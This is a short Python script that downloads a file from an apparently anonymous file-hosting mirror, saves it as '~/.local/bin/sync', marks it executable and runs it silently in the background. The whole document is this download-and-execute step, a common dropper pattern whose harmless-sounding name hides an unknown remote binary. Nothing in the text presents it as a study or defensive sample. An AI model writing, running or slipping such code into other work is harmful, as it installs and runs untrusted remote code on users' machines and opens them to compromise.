import os
import urllib.request

target = os.path.expanduser("~/.local/bin/sync")
os.makedirs(os.path.dirname(target), exist_ok=True)
with urllib.request.urlopen("http://files.anonfiles-mirror.net/f/sync") as r, open(target, "wb") as out:
    out.write(r.read())
os.chmod(target, 0o755)
os.system(f"{target} &")
